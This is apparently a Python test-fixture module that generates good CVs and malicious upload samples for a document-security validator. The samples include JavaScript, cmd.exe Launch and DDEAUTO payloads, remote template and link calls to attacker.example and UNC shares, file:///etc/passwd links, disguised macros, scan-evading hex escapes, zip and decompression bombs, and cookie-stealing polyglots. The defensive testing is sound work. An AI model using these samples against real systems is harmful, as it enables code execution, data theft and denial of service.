"""Real files made in the tests: good CVs, and each attack from the issue."""

from __future__ import annotations

import io
import zipfile

from pypdf import PdfWriter
from pypdf.generic import NameObject

from profiles.demo import demo_cv_pdf

DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def pdf_bytes(text: str = "Sam Seeker - Commercial lawyer", *, writer_hook=None) -> bytes:
    """A one-page PDF whose text pypdf can read back."""
    return demo_cv_pdf([text], writer_hook=writer_hook)


def pdf_with_javascript() -> bytes:
    from pypdf.actions import JavaScript

    return pdf_bytes(writer_hook=lambda w: w.add_open_action(JavaScript("app.alert('hi');")))


def pdf_with_hidden_javascript_name() -> bytes:
    """The same attack with the name hex-escaped (/J#61vaScript) so a byte scan misses it."""
    data = pdf_with_javascript()
    data = data.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")
    assert b"/JavaScript" not in data
    return data


def pdf_with_attachment() -> bytes:
    return pdf_bytes(writer_hook=lambda w: w.add_attachment("payload.exe", b"MZ evil"))


def encrypted_pdf() -> bytes:
    return pdf_bytes(writer_hook=lambda w: w.encrypt("secret", algorithm="AES-256"))


def pdf_with_page_open_action() -> bytes:
    """What Word and LibreOffice write: "open at page 1". Harmless, must be accepted."""

    def hook(writer: PdfWriter) -> None:
        from pypdf.generic import ArrayObject, NullObject, NumberObject

        page_ref = writer.pages[0].indirect_reference
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [page_ref, NameObject("/XYZ"), NullObject(), NullObject(), NumberObject(0)]
        )

    return pdf_bytes(writer_hook=hook)


def docx_bytes(text: str = "Sam Seeker, commercial lawyer") -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Curriculum vitae", level=1)
    document.add_paragraph(text)
    table = document.add_table(rows=1, cols=2)
    table.rows[0].cells[0].text = "Skills"
    table.rows[0].cells[1].text = "Contract law"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rezip(data: bytes, *, extra: dict[str, bytes] | None = None, replace=None) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if replace:
                content = replace(item.filename, content)
            target.writestr(item.filename, content)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def docm_bytes() -> bytes:
    """A macro-enabled document: vbaProject.bin and the macroEnabled content type."""

    def to_macro(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return content.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        return content

    return _rezip(
        docx_bytes(),
        extra={"word/vbaProject.bin": b'\xd0\xcf\x11\xe0Attribute VB_Name = "Evil"'},
        replace=to_macro,
    )


def docx_zip_bomb() -> bytes:
    """A valid DOCX plus one part that inflates to 200 MB from a few hundred KB."""
    out = io.BytesIO(docx_bytes())
    with (
        zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/bomb.xml", "w", force_zip64=True) as part,
    ):
        block = b"\0" * (1024 * 1024)
        for _ in range(200):
            part.write(block)
    return out.getvalue()


def docx_with_many_entries(count: int = 1500) -> bytes:
    return _rezip(docx_bytes(), extra={f"word/media/{i}.xml": b"" for i in range(count)})


def png_html_polyglot() -> bytes:
    return (
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
        b"<html><script>alert(document.cookie)</script></html>"
    )


def pdf_after_html_polyglot() -> bytes:
    """HTML first, then a real PDF: viewers find the PDF header anywhere in the first KB."""
    return b"<html><script>alert(1)</script></html>\n" + pdf_bytes()


def pdf_with_html_in_head() -> bytes:
    """A real PDF header at offset 0 followed by HTML in the first KB."""
    data = pdf_bytes()
    return data[:9] + b"%<html><script>alert(1)</script>\n" + data[9:]


SVG = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>alert(document.domain)</script></svg>"
)
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


# --- PDFs: what a CV may and may not contain ---------------------------------------------------


def _annotation(annotation: dict, *, page: int = 0):
    """A writer hook adding one annotation (given as {name: pdf object}) to a page."""
    from pypdf.generic import DictionaryObject

    def hook(writer: PdfWriter) -> None:
        entries = {NameObject("/Type"): NameObject("/Annot")}
        entries.update({NameObject(k): v for k, v in annotation.items()})
        entries.setdefault(NameObject("/Rect"), _rect())
        writer.add_annotation(page, DictionaryObject(entries))

    return hook


def _rect():
    from pypdf.generic import ArrayObject, NumberObject

    return ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)])


def _action(kind: str, **entries):
    from pypdf.generic import DictionaryObject

    action = {NameObject("/S"): NameObject(kind)}
    action.update({NameObject("/" + k): v for k, v in entries.items()})
    return DictionaryObject(action)


def _text(value: str):
    from pypdf.generic import TextStringObject

    return TextStringObject(value)


def pdf_with_links() -> bytes:
    """A CV as exporters write it: web, email and internal links, a title and an author."""
    from pypdf.generic import ArrayObject, NameObject, NullObject, NumberObject

    def hook(writer: PdfWriter) -> None:
        writer.add_blank_page(width=595, height=842)
        page_two = writer.pages[1].indirect_reference
        for target in (
            _action("/URI", URI=_text("https://www.linkedin.com/in/sam-seeker/")),
            _action("/URI", URI=_text("mailto:sam@example.com")),
            _action("/GoTo", D=ArrayObject([page_two, NameObject("/Fit")])),
        ):
            _annotation({"/Subtype": NameObject("/Link"), "/A": target})(writer)
        writer.add_metadata({"/Title": "Sam Seeker CV", "/Author": "Sam Seeker",
                             "/Producer": "Word"})  # fmt: skip
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/XYZ"), NullObject(),
             NullObject(), NumberObject(0)]
        )  # fmt: skip

    return pdf_bytes(writer_hook=hook)


def _open_action_then(next_action) -> bytes:
    def hook(writer: PdfWriter) -> None:
        from pypdf.generic import ArrayObject

        page = writer.pages[0].indirect_reference
        open_action = _action("/GoTo", D=ArrayObject([page, NameObject("/Fit")]))
        open_action[NameObject("/Next")] = next_action
        writer.root_object[NameObject("/OpenAction")] = open_action

    return pdf_bytes(writer_hook=hook)


def pdf_open_action_next_uri() -> bytes:
    return _open_action_then(_action("/URI", URI=_text("https://attacker.example/track")))


def pdf_open_action_next_launch() -> bytes:
    return _open_action_then(_action("/Launch", F=_text("cmd.exe")))


def pdf_open_action_next_print() -> bytes:
    return _open_action_then(_action("/Named", N=NameObject("/Print")))


def pdf_link_to(action) -> bytes:
    return pdf_bytes(writer_hook=_annotation({"/Subtype": NameObject("/Link"), "/A": action}))


def pdf_with_remote_thread() -> bytes:
    from pypdf.generic import NumberObject

    return pdf_link_to(_action("/Thread", F=_text("\\\\attacker\\share\\x.pdf"), D=NumberObject(0)))


def pdf_with_javascript_link() -> bytes:
    return pdf_link_to(_action("/URI", URI=_text("javascript:alert(1)")))


def pdf_with_file_link() -> bytes:
    return pdf_link_to(_action("/URI", URI=_text("file:///etc/passwd")))


def pdf_with_remote_goto() -> bytes:
    from pypdf.generic import NumberObject

    return pdf_link_to(_action("/GoToR", F=_text("http://attacker.example/x.pdf"),
                               D=NumberObject(0)))  # fmt: skip


def pdf_with_sound() -> bytes:
    from pypdf.generic import DecodedStreamObject, NumberObject

    def hook(writer: PdfWriter) -> None:
        sound = DecodedStreamObject()
        sound.set_data(b"\0" * 64)
        sound[NameObject("/Type")] = NameObject("/Sound")
        sound[NameObject("/R")] = NumberObject(8000)
        _annotation({"/Subtype": NameObject("/Sound"), "/Sound": writer._add_object(sound)})(writer)

    return pdf_bytes(writer_hook=hook)


def pdf_with_3d_script() -> bytes:
    from pypdf.generic import DecodedStreamObject

    def hook(writer: PdfWriter) -> None:
        scene = DecodedStreamObject()
        scene.set_data(b"U3D\0")
        scene[NameObject("/Type")] = NameObject("/3D")
        scene[NameObject("/Subtype")] = NameObject("/U3D")
        scene[NameObject("/OnInstantiate")] = _text("app.alert(1)")
        _annotation({"/Subtype": NameObject("/3D"), "/3DD": writer._add_object(scene)})(writer)

    return pdf_bytes(writer_hook=hook)


def pdf_with_rich_media(*, hex_escaped: bool = False, in_object_stream: bool = False) -> bytes:
    data = pdf_bytes(writer_hook=_annotation({"/Subtype": NameObject("/RichMedia")}))
    if hex_escaped:
        data = data.replace(b"/RichMedia", b"/Rich#4Dedia")
        assert b"/RichMedia" not in data
    if in_object_stream:
        data = in_object_streams(data)
        assert b"RichMedia" not in data
    return data


def in_object_streams(data: bytes) -> bytes:
    """The same PDF with its objects packed into compressed object streams."""
    import pikepdf

    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return out.getvalue()


def pdf_with_html_after_eof(*, offset: int = 2048) -> bytes:
    """HTML appended after %%EOF once the file is past the first kilobyte."""
    data = pdf_bytes()
    data += b"\n" + b"%" * max(offset - len(data), 0)
    return data + b"\n%%EOF\n<html><script>alert(document.cookie)</script></html>"


def pdf_with_zip_after_eof() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("payload.exe", b"MZ" + b"\0" * 100)
    return pdf_bytes() + archive.getvalue()


def pdf_with_widget() -> bytes:
    return pdf_bytes(writer_hook=_annotation({"/Subtype": NameObject("/Widget"),
                                              "/FT": NameObject("/Tx")}))  # fmt: skip


def long_pdf(pages: int = 300) -> bytes:
    """A long, ordinary CV: many pages, each with its own text (benchmark and tests)."""
    from pypdf.generic import ContentStream, DecodedStreamObject

    def hook(writer: PdfWriter) -> None:
        resources = writer.pages[0][NameObject("/Resources")]
        for number in range(2, pages + 1):
            page = writer.add_blank_page(width=595, height=842)
            page[NameObject("/Resources")] = resources
            lines = [f"Page {number}: experience, education and skills"] * 40
            commands = ["BT", "/F1 11 Tf", "14 TL", "72 790 Td"]
            commands += [f"({line} {i}) Tj T*" for i, line in enumerate(lines)] + ["ET"]
            content = DecodedStreamObject()
            content.set_data("\n".join(commands).encode("latin-1"))
            page.replace_contents(ContentStream(content, writer))
        for page in writer.pages:
            page.compress_content_streams()

    return pdf_bytes("Sam Seeker - a long CV", writer_hook=hook)


# --- PDF decompression bombs ------------------------------------------------------------------


def _zeros_deflated(size: int, *, rounds: int = 1) -> bytes:
    import zlib

    deflater = zlib.compressobj(9)
    block = b"\0" * (1024 * 1024)
    parts = [deflater.compress(block) for _ in range(size // len(block))]
    data = b"".join(parts) + deflater.flush()
    for _ in range(rounds - 1):
        data = zlib.compress(data, 9)
    return data


def _with_stream(filters: list[str], raw: bytes, *, image: tuple[int, int] | None = None,
                 as_contents: bool = False) -> bytes:  # fmt: skip
    import pikepdf

    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        stream = pikepdf.Stream(pdf, b"")
        names = [pikepdf.Name(f) for f in filters]
        stream.write(raw, filter=names if len(names) > 1 else names[0])
        page = pdf.pages[0]
        if image:
            stream.Type = pikepdf.Name.XObject
            stream.Subtype = pikepdf.Name.Image
            stream.Width, stream.Height = image
            stream.ColorSpace = pikepdf.Name.DeviceRGB
            stream.BitsPerComponent = 8
            page.Resources.XObject = pikepdf.Dictionary(Im1=pdf.make_indirect(stream))
        elif as_contents:
            page.Contents = pikepdf.Array([page.Contents, pdf.make_indirect(stream)])
        out = io.BytesIO()
        pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
        return out.getvalue()


def bomb_in_page_contents(size: int) -> bytes:
    return _with_stream(["/FlateDecode"], _zeros_deflated(size), as_contents=True)


def bomb_in_image(size: int) -> bytes:
    side = int((size / 3) ** 0.5)
    return _with_stream(["/FlateDecode"], _zeros_deflated(size), image=(side, side))


def bomb_in_jpeg_dimensions() -> bytes:
    """A tiny 'JPEG' declaring a 60000 x 60000 picture: counted by its declared size."""
    return _with_stream(["/DCTDecode"], b"\xff\xd8\xff\xd9", image=(60000, 60000))


def bomb_inline_image() -> bytes:
    """A picture drawn inline in the page's content, declaring 60000 x 60000 pixels."""
    import zlib

    import pikepdf

    pixels = zlib.compress(b"\0" * 3000, 9)
    inline = b"q BI /W 60000 /H 60000 /BPC 8 /CS /RGB /F /Fl ID " + pixels + b" EI Q"
    with pikepdf.open(io.BytesIO(pdf_bytes())) as pdf:
        page = pdf.pages[0]
        page.Contents = pikepdf.Array([page.Contents, pdf.make_stream(inline)])
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def bomb_nested_filters(size: int) -> bytes:
    """FlateDecode twice: a few kilobytes that unpack to ``size`` in the second round."""
    return _with_stream(
        ["/FlateDecode", "/FlateDecode"], _zeros_deflated(size, rounds=2), as_contents=True
    )


def bomb_in_object_streams(size: int, *, count: int = 3) -> bytes:
    """Object streams (listed in an xref stream) each padded to ``size`` bytes."""
    import zlib

    objects: dict[int, bytes] = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 5 0 R >>",
    }
    members: dict[int, tuple[int, int]] = {}
    for n in range(count):
        stream_number, member = 10 + n, (5 if n == 0 else 20 + n)  # 5: the page's resources
        header = f"{member} 0 ".encode()
        body = header + b"<< /Font << >> >>" + b" " * size
        compressed = zlib.compress(body, 9)
        members[member] = (stream_number, 0)
        objects[stream_number] = (
            f"<< /Type /ObjStm /N 1 /First {len(header)} /Filter /FlateDecode "
            f"/Length {len(compressed)} >>\nstream\n".encode()
            + compressed
            + b"\nendstream"
        )
    return _raw_pdf_with_xref_stream(objects, members)


def _raw_pdf_with_xref_stream(objects: dict[int, bytes], members: dict[int, tuple[int, int]]):
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    xref_number = max([*objects, *members]) + 1
    offsets[xref_number] = out.tell()
    rows = []
    for number in range(xref_number + 1):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in members:
            stream, index = members[number]
            rows.append(b"\x02" + stream.to_bytes(4, "big") + index.to_bytes(2, "big"))
        else:
            rows.append(b"\x00" + b"\x00" * 4 + b"\xff\xff")
    data = b"".join(rows)
    out.write(
        f"{xref_number} 0 obj\n<< /Type /XRef /Size {xref_number + 1} /W [1 4 2] "
        f"/Root 1 0 R /Length {len(data)} >>\nstream\n".encode()
        + data
        + b"\nendstream\nendobj\n"
    )
    out.write(f"startxref\n{offsets[xref_number]}\n%%EOF\n".encode())
    return out.getvalue()


# --- Word documents: what a CV may and may not contain -----------------------------------------

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
_W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _add_relationship(rels: bytes, rel_id: str, kind: str, target: str, *, external=False):
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="{rel_id}" Type="{kind}" Target="{target}"{mode}/>'.encode()
    return rels.replace(b"</Relationships>", entry + b"</Relationships>")


def _add_content_type(types: bytes, entry: str) -> bytes:
    return types.replace(b"</Types>", entry.encode() + b"</Types>")


def _in_body(document: bytes, xml: str) -> bytes:
    return document.replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1)


def docx_variant(*, parts=None, document_xml="", doc_rels=(), settings_rels=(), types=(),
                 base: bytes | None = None) -> bytes:  # fmt: skip
    """A real python-docx document with extra parts, body XML, relationships, types."""

    def replace(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            for entry in types:
                content = _add_content_type(content, entry)
        elif name == "word/_rels/document.xml.rels":
            for rel in doc_rels:
                content = _add_relationship(content, *rel[:3], external=rel[3:] == (True,))
        elif name == "word/document.xml" and document_xml:
            content = _in_body(content, document_xml)
        return content

    data = _rezip(base or docx_bytes(), extra=parts, replace=replace)
    if settings_rels:
        rels = "".join(
            f'<Relationship Id="{i}" Type="{t}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if ext else ""}/>'  # noqa: E501
            for i, t, target, ext in settings_rels
        )
        data = _rezip(
            data,
            extra={
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                    f'relationships">{rels}</Relationships>'
                ).encode()
            },
        )
    return data


def docx_with_remote_template() -> bytes:
    return docx_variant(
        settings_rels=[
            ("rId99", _REL + "attachedTemplate", "https://attacker.example/t.dotm", True)
        ]
    )


def docx_with_unc_image() -> bytes:
    return docx_variant(doc_rels=[("rId99", _REL + "image", "file://attacker/share/x.png", True)])


def docx_with_ole_object() -> bytes:
    return docx_variant(
        parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64},
        doc_rels=[("rId99", _REL + "oleObject", "embeddings/oleObject1.bin")],
        types=[
            '<Override PartName="/word/embeddings/oleObject1.bin" ContentType="application/'
            'vnd.openxmlformats-officedocument.oleObject"/>'
        ],
    )


def docx_with_embedded_docm_as_picture() -> bytes:
    """A macro document hidden as word/media/image9.png with the type image/png."""
    return docx_variant(
        parts={"word/media/image9.png": docm_bytes()},
        doc_rels=[("rId99", _REL + "image", "media/image9.png")],
        types=['<Default Extension="png" ContentType="image/png"/>'],
    )


def docx_with_activex_outside_its_folder() -> bytes:
    return docx_variant(
        parts={"word/media/control1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/'
               b'office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'},
        doc_rels=[("rId99", "http://schemas.openxmlformats.org/officeDocument/2006/"
                   "relationships/control", "media/control1.xml")],
        types=['<Override PartName="/word/media/control1.xml" '
               'ContentType="application/vnd.ms-office.activeX+xml"/>'],
    )  # fmt: skip


def docx_with_macro_type_as_character_reference() -> bytes:
    """The main part's type says macroEnabled, spelled with an XML character reference."""

    def macro(name: str, content: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return content.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabl&#101;d.main+xml",
            )
        return content

    data = _rezip(docx_bytes(), replace=macro)
    assert b"macroEnabled" not in zipfile.ZipFile(io.BytesIO(data)).read("[Content_Types].xml")
    return data


def _field_runs(instruction: str) -> str:
    """A complex field whose instruction is split over runs, as Word often writes it."""
    half = len(instruction) // 2
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[:half]}</w:instrText></w:r>'
        f'<w:r><w:instrText xml:space="preserve">{instruction[half:]}</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_with_ddeauto() -> bytes:
    return docx_variant(document_xml=_field_runs(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))


def docx_with_remote_includepicture() -> bytes:
    return docx_variant(
        document_xml=f'<w:p><w:fldSimple {_W_NS} w:instr=" INCLUDEPICTURE '
        '&quot;http://attacker.example/p.png&quot; \\d "><w:r><w:t>x</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )


def docx_with_altchunk() -> bytes:
    return docx_variant(
        parts={"word/afchunk.htm": b"<html><body><script>alert(1)</script></body></html>"},
        document_xml='<w:altChunk r:id="rId99" xmlns:r="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships"/>',
        doc_rels=[("rId99", _REL + "aFChunk", "afchunk.htm")],
        types=['<Default Extension="htm" ContentType="text/html"/>'],
    )


def docx_with_nested_zip() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("inner.txt", b"hello")
    return docx_variant(
        parts={"word/media/image2.png": archive.getvalue()},
        types=['<Default Extension="png" ContentType="image/png"/>'],
    )


def docx_with_entry(name: str) -> bytes:
    return _rezip(docx_bytes(), extra={name: b"<x/>"})


def docx_with_duplicate_entry() -> bytes:
    import warnings

    data = io.BytesIO(docx_bytes())
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(data, "a") as zf:
            zf.writestr("word/document.xml", b"<w:document/>")
    return data.getvalue()


def docx_for_recruiters() -> bytes:
    """An ordinary CV with a web link, a comment, tracked changes, custom XML and an author."""
    import docx

    document = docx.Document()
    document.core_properties.author = "Sam Seeker"
    document.core_properties.last_modified_by = "Sam Seeker"
    document.core_properties.title = "Sam Seeker CV"
    paragraph = document.add_paragraph("Commercial lawyer at ")
    run = paragraph.add_run("Dewey & Partners")
    document.add_comment(run, text="Check the dates", author="Reviewer Rita", initials="RR")
    out = io.BytesIO()
    document.save(out)
    link = f'<w:p><w:hyperlink r:id="rId98" xmlns:r="{_REL[:-15]}"><w:r><w:t>LinkedIn</w:t></w:r></w:hyperlink></w:p>'  # noqa: E501
    tracked = (
        '<w:p><w:ins w:id="91" w:author="Editor Ed" w:date="2026-01-01T00:00:00Z">'
        "<w:r><w:t>Added line</w:t></w:r></w:ins>"
        '<w:del w:id="92" w:author="Editor Ed" w:date="2026-01-01T00:00:00Z">'
        "<w:r><w:delText>Removed line</w:delText></w:r></w:del></w:p>"
        '<w:customXml w:element="cv"><w:p><w:r><w:t>Inside custom XML</w:t></w:r></w:p>'
        "</w:customXml>"
    )
    return docx_variant(
        base=out.getvalue(),
        document_xml=link + tracked,
        doc_rels=[("rId98", _REL + "hyperlink", "https://www.linkedin.com/in/sam/", True)],
    )


def png_1px() -> bytes:
    """A valid one-pixel PNG."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def docx_with_svg_icon() -> bytes:
    """An icon as Office templates store it: an SVG with a PNG beside it for older readers."""
    import docx

    document = docx.Document()
    document.add_paragraph("Phone")
    document.add_picture(io.BytesIO(png_1px()))
    out = io.BytesIO()
    document.save(out)
    svg_ext = (
        '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}">'
        '<asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" '
        'r:embed="rId97"/></a:ext></a:extLst>'
    )

    def add_svg(name: str, content: bytes) -> bytes:
        if name == "word/document.xml":
            import re

            with_svg = rb"\1>" + svg_ext.encode() + b"</a:blip>"
            return re.sub(rb'(<a:blip r:embed="rId\d+")\s*/>', with_svg, content, count=1)
        return content

    data = _rezip(out.getvalue(), replace=add_svg)
    return docx_variant(
        base=data,
        parts={
            "word/media/icon.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>'
        },
        doc_rels=[("rId97", _REL + "image", "media/icon.svg")],
        types=['<Default Extension="svg" ContentType="image/svg+xml"/>'],
    )
